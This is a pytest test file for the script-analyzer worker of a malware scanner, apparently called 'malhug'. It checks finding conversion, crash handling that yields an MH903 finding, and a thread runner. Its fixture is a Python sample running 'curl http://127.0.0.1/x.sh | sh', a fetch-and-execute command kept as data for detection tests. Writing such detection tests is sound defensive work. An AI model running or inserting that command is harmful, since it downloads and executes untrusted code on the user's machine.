"""The script-analyzer worker: findings round-trip as dicts; a crashing analyzer becomes MH903 and a log line."""

from __future__ import annotations

import logging

import pytest

from malhug.server import scriptworker

SCRIPT = "import os\nos.system('curl http://127.0.0.1/x.sh | sh')\n"


def test_findings_round_trip_through_dicts() -> None:
    raw = scriptworker.analyze(SCRIPT, "evil.py")
    findings = scriptworker.to_findings(raw, "evil.py")
    assert findings and all(f.rule.startswith("MH5") for f in findings)
    worst = max(findings, key=lambda f: f.severity.rank)
    assert worst.location.line == 2 and "127.0.0.1" in worst.message


def test_a_crashing_analyzer_is_an_mh903_finding_and_logged(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    import malhug.analyzers.scripts.analyzer as analyzer

    def boom(text: str, path: str, **kwargs: object) -> list[object]:
        raise KeyError("bug in the analyzer")

    monkeypatch.setattr(analyzer, "analyze_text", boom)
    raw = scriptworker.analyze(SCRIPT, "evil.py")
    with caplog.at_level(logging.WARNING, logger="malhug.server.scripts"):
        findings = scriptworker.to_findings(raw, "evil.py")
    assert [f.rule for f in findings] == ["MH903"]
    assert "KeyError: 'bug in the analyzer'" in findings[0].message
    assert "MH903 on evil.py: python analyzer failed: KeyError" in caplog.text


def test_runner_uses_a_thread_when_asked() -> None:
    runner = scriptworker.ScriptRunner(use_process=False)
    try:
        raw = runner.executor().submit(scriptworker.analyze, SCRIPT, "evil.py").result(timeout=60)
        assert scriptworker.to_findings(raw, "evil.py")
    finally:
        runner.shutdown()
